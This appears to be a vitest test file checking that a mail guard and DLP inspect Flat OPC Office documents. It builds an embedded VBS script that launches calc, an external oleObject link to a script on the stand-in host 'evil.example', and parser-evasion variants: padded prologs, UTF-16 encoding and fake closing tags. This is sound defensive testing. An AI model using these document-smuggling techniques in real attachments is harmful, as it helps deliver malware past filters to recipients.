import { olePackageObject, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit, outboundFile } from './attacker-kit.js';
import { flatBinaryPart, flatXmlPart } from './office-builders.js';
import { useLocalStack } from './stack.js';

// A49-4 / A49-9 (high): a Flat OPC document is an Office document written as one XML file
// (`<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">`); Word opens it as .xml (by its
// mso-application instruction) and as .doc (by its content) as the .docx its parts make. Its embedded object
// (a base64 `binaryData` part) and its relationships were not read: neither the guard nor the DLP saw inside.
const stack = useLocalStack();
const kit = attackerKit(stack);
const vbs = Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n');
const CARD = '4111 1111 1111 1111';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const document =
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>';
const xmlPart = flatXmlPart;
const binaryPart = flatBinaryPart;
const flatOpc = (parts: string, prolog = '') =>
  Buffer.from(
    `<?xml version="1.0" standalone="yes"?>${prolog}<?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">${xmlPart('/word/document.xml', document)}${parts}</pkg:package>`,
  );
const externalRels = (target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${REL}/oleObject" Target="${target}" TargetMode="External"/></Relationships>`;
const verdict = async (name: string, file: Buffer, type: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;

describe('A49-4: the guard reads a Flat OPC document inside', () => {
  const packaged = binaryPart('/word/embeddings/oleObject1.bin', olePackageObject('invoice.vbs', vbs));
  it('bounces an .xml embedding a packaged script', async () => {
    expect(await verdict('Invoice.xml', flatOpc(packaged), 'text/xml')).toBe('BOUNCE');
  });
  it('bounces a .doc whose relationships link a script on a share', async () => {
    const rels = xmlPart('/word/_rels/document.xml.rels', externalRels('\\\\evil.example\\s\\invoice.hta'));
    expect(await verdict('Invoice.doc', flatOpc(rels), 'application/msword')).toBe('BOUNCE');
  });
  it('bounces one whose root comes after a prolog longer than the first bytes looked at', async () => {
    const prolog = `<!--${' padding'.repeat(400)}-->`;
    expect(await verdict('Invoice.xml', flatOpc(packaged, prolog), 'application/xml')).toBe('BOUNCE');
  });
  it('bounces one written in UTF-16 with a default namespace instead of a prefix', async () => {
    const text = flatOpc(packaged).toString().replaceAll('pkg:', '').replace('xmlns:pkg=', 'xmlns=');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    expect(await verdict('Invoice.xml', utf16, 'application/octet-stream')).toBe('BOUNCE');
  });
  it('bounces relationships read past a nested data element and a comment that look like its end', async () => {
    const rels = externalRels('\\\\evil.example\\s\\invoice.hta').replace(
      '<Relationship ',
      '<x:xmlData xmlns:x="urn:x"></x:xmlData><!-- </pkg:xmlData> --><Relationship ',
    );
    const part = xmlPart('/word/_rels/document.xml.rels', rels);
    expect(await verdict('Invoice.doc', flatOpc(part), 'application/msword')).toBe('BOUNCE');
  });
  it('(control) sends a Flat OPC document with a picture', async () => {
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(64)]);
    const picture = binaryPart('/word/media/image1.png', png);
    expect(await verdict('Invoice.xml', flatOpc(picture), 'text/xml')).toBe('DEFAULT');
  });
});

describe('A49-9: the DLP reads a Flat OPC document inside', () => {
  const workbook = zipFile([
    {
      name: 'xl/sharedStrings.xml',
      data: `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>${CARD}</t></si></sst>`,
    },
    { name: 'xl/workbook.xml', data: '<workbook/>' },
  ]);
  const embedded = binaryPart('/word/embeddings/Microsoft_Excel_Worksheet.xlsx', workbook);
  it('bounces an outgoing .xml embedding a workbook holding a card number', async () => {
    expect(await kit.outbound(outboundFile('Report.xml', flatOpc(embedded), 'text/xml'))).toBe('BOUNCE');
  });
  it('bounces it sent as a .doc declared binary', async () => {
    expect(await kit.outbound(outboundFile('Report.doc', flatOpc(embedded)))).toBe('BOUNCE');
  });
  it('(control) sends the document without the card', async () => {
    const clean = zipFile([{ name: 'xl/sharedStrings.xml', data: '<sst><si><t>Totals</t></si></sst>' }]);
    const part = binaryPart('/word/embeddings/Microsoft_Excel_Worksheet.xlsx', clean);
    expect(await kit.outbound(outboundFile('Report.xml', flatOpc(part), 'text/xml'))).toBe('DEFAULT');
  });
});
